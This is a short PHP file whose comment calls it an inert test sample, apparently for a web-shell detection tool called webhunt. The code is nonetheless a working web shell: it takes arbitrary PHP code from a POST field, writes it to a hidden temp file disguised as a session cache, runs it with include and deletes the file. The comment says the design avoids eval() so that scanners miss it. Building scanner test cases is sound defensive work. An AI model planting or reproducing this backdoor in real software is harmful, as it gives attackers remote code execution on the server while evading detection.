<?php
// Inert test sample (webhunt): the posted code is written to a hidden file outside the web root
// through fopen()/fwrite() and then included, so no eval() and no script name appear.
$spool = sys_get_temp_dir() . '/.sess_cache_' . md5(__FILE__);
if (!empty($_POST['blob'])) {
    $fh = fopen($spool, 'wb');
    fwrite($fh, stripslashes($_POST['blob']));
    fclose($fh);
    include $spool;
    @unlink($spool);
}
